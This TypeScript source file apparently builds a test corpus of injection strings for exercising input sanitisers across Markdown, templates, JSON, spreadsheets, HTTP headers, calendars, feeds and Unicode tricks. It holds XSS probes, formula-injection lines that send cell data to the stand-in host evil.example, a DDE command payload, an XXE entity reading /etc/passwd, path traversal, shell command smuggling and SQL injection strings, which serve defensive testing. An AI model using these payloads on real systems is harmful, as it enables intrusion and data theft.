/** What breaks out of forms that are not markup: Markdown, templates, scripts, JSON, tables, calendars, feeds, headers; and odd characters. */

const scripts = [
  'alert(1)',
  'alert`1`',
  'window.alert(1)',
  "import('//evil.example/a.js')",
  "fetch('//evil.example/')",
];

const markdown = [
  ...['onclick', 'onmouseover', 'style', 'href', 'src', 'srcdoc', 'id', 'class', 'name'].flatMap((name) =>
    ['alert(1)', '"alert(1)"', 'javascript:alert(1)', '//evil.example/a', '"a" onclick="alert(1)'].flatMap((value) => [
      `甲 {${name}=${value}}`,
      `[甲](/a/){${name}=${value}}`,
      `# 甲 {${name}=${value}}`,
    ]),
  ),
  ...['note', 'warning', 'danger"><script>alert(1)</script>', '<img src=x onerror=alert(1)>', '{onclick=alert(1)}'].map(
    (name) => `::: ${name}\n甲\n:::`,
  ),
  ...['js', 'html', '"><script>alert(1)</script>', 'js {onclick=alert(1)}', '\u0000'].map(
    (name) => `\`\`\`${name}\n<b>\n\`\`\``,
  ),
  ...['甲', '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>'].flatMap((text) => [
    `甲[^${text}]\n\n[^${text}]: ${text}`,
    `甲^[${text}]`,
    `{${text}|${text}}`,
    `| ${text} |\n|---|\n| ${text} |`,
    `> ${text}\n> - ${text}`,
    `**${text}**`,
    `\`${text}\``,
    `<!-- ${text} -->`,
    `《${text}》`,
  ]),
  ...['{a|', '{.', '[', '![', '<', '`', '*', '_', '~', '^', '|', '《', '> ', '- ', '# ', '::: '].map((piece) =>
    piece.repeat(40),
  ),
];

const templates = [
  ...['{{', '${', '#{', '<%=', '{%', '[[', '{', '%{', '@{', '{!', '*{', '~{'].flatMap((open) =>
    ["constructor.constructor('alert(1)')()", '7*7', 'title', 'count', '__proto__'].map(
      (text) => `${open}${text}${{ '{{': '}}', '<%=': '%>', '{%': '%}', '[[': ']]' }[open] ?? '}'}`,
    ),
  ),
  // What String.replace takes for more than words.
  ...['$&', '$`', "$'", '$$', '$1', '$<a>', '$0', '\\1', '%s', '%d', '%n', '{0}'],
];

const strings = [
  ...["'", '"', '`', "\\'", '\\"', '</script>', '\u2028', '\u2029', '\\u0027', '\\x3c/script>', '*/', '\n'].flatMap(
    (end) => scripts.map((script) => `${end};${script}//`),
  ),
  ...[
    '{"__proto__":{"a":1}}',
    '{"constructor":{"prototype":{"a":1}}}',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
  ],
  ...['"}],"a":[{"b":"', '\\', '\\\\"', '{"a":1,"a":2}', '[[[[[[', '1e999', '-0', 'NaN', 'undefined', 'null', 'true'],
  ...['<!--<script>', '<!--', '<script>', ']]>', '\u0000"', '\\u0000', '\ud83d'],
];

const cells = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠', ' =', '\u3000='].flatMap((start) => [
  `${start}cmd|'/c calc'!A1`,
  `${start}HYPERLINK("//evil.example/"&A1,"点这里")`,
  `${start}1+1";=1+1`,
  `${start}IMPORTXML("//evil.example/","//a")`,
]);

const lines = ['\r\n', '\n', '\r', '\u0085', '\u2028', '\u000B', '\u000C', '\\n', '%0D%0A'].flatMap((end) =>
  [
    'Set-Cookie: a=1',
    'Location: //evil.example/',
    'Content-Security-Policy: script-src *',
    'END:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:https://evil.example/a\r\nEND:VALARM',
    'X-ALT-DESC;FMTTYPE=text/html:<script>alert(1)</script>',
    '@online{a, url={javascript:alert(1)}}',
    ']]></description><script>alert(1)</script><description><![CDATA[',
    '</title></item><item><link>javascript:alert(1)</link>',
    '<!ENTITY a SYSTEM "file:///etc/passwd">&a;',
  ].map((line) => `甲${end}${line}`),
);

const full = (text: string) =>
  text.replaceAll(/[!-~]/gu, (sign) => String.fromCodePoint(sign.codePointAt(0)! + 0xfee0));
const between = (text: string, sign: string) => [...text].join(sign);
const entities = (text: string, write: (code: number) => string) =>
  [...text].map((sign) => write(sign.codePointAt(0)!)).join('');

const cores = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"onclick="alert(1)',
  'javascript:alert(1)',
];
const characters = cores.flatMap((core) => [
  full(core),
  ...['\u200B', '\u200D', '\u00AD', '\u0301', '\uFE0F', '\u2060'].map((sign) => between(core, sign)),
  ...[
    '\u202E',
    '\u202D',
    '\u2066',
    '\u2067',
    '\u061C',
    '\u200F',
    '\uFEFF',
    '\uFFFE',
    '\uFFFF',
    '\u{E0001}',
    '\ud800',
    '\udc00',
  ].map((sign) => `${sign}${core}${sign}`),
  entities(core, (code) => `&#${code};`),
  entities(core, (code) => `&#${String(code).padStart(7, '0')}`),
  entities(core, (code) => `&#x${code.toString(16)};`),
  entities(core, (code) => `%${code.toString(16).padStart(2, '0')}`),
  entities(core, (code) => `%25${code.toString(16).padStart(2, '0')}`),
  entities(core, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  entities(core, (code) => `\\x${code.toString(16).padStart(2, '0')}`),
  entities(core, (code) => `+A${code.toString(16)}-`),
  core.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  core.replaceAll('<', '&amp;lt;'),
  core.replaceAll('<', '\u2039').replaceAll('>', '\u203A'),
  core.replaceAll('<', '\u00BC').replaceAll('>', '\u00BE'),
  core.toUpperCase().replaceAll('S', '\u017F').replaceAll('I', '\u0130'),
]);

const odd = [
  ...[
    '👨‍👩‍👧‍👦',
    '🏳️‍🌈',
    '𠮷野家',
    'ﷺ',
    '\u0E33\u0E33',
    'z\u0335\u0321\u0327'.repeat(30),
    '\u1F900',
    '\u0000',
    '\u001E',
    '\u007F',
    '\u0080',
  ],
  ...[
    'کارگر',
    'שלום',
    '\u202Etxt.exe',
    '\u2067abc\u2069',
    'ａｄｍｉｎ',
    'раураl',
    'ı',
    'ß',
    'ŉ',
    '\uFDD0',
    '\u{10FFFF}',
  ],
  ...[
    '..',
    '../../../etc/passwd',
    '..\\..\\a',
    '/etc/passwd',
    'C:\\a',
    'CON',
    'a\u0000.md',
    '.git/config',
    '~',
    '$(id)',
    '`id`',
    ';id',
    '| id',
    '&& id',
  ],
  ...["' OR 1=1--", '*:*', '[0 TO *]', '"', '(', '(?:a+)+$', '\\Q', 'a'.repeat(500), '字'.repeat(500), ' '.repeat(200)],
];

/** Everything that is no markup to begin with. */
export const breakers: readonly string[] = [
  ...markdown,
  ...templates,
  ...strings,
  ...cells,
  ...lines,
  ...characters,
  ...odd,
];
